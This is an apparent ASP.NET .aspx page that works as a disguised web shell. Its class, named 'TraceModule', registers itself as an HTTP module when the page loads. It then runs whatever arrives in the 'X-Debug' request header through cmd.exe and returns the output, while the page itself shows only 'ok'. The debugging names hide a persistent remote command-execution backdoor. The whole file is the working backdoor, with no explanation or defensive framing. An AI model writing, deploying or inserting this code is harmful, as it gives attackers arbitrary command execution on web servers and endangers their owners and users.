<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    public class TraceModule : IHttpModule
    {
        public void Init(HttpApplication app)
        {
            app.BeginRequest += (s, e) =>
            {
                var ctx = ((HttpApplication)s).Context;
                string c = ctx.Request.Headers["X-Debug"];
                if (c == null) return;
                var psi = new ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false };
                ctx.Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
                ctx.Response.End();
            };
        }
        public void Dispose() { }
    }
    void Page_Load(object sender, EventArgs e)
    {
        Microsoft.Web.Infrastructure.DynamicModuleHelper.DynamicModuleUtility.RegisterModule(typeof(TraceModule));
        var app = Context.ApplicationInstance;
        new TraceModule().Init(app);
        Response.Write("ok");
    }
</script>
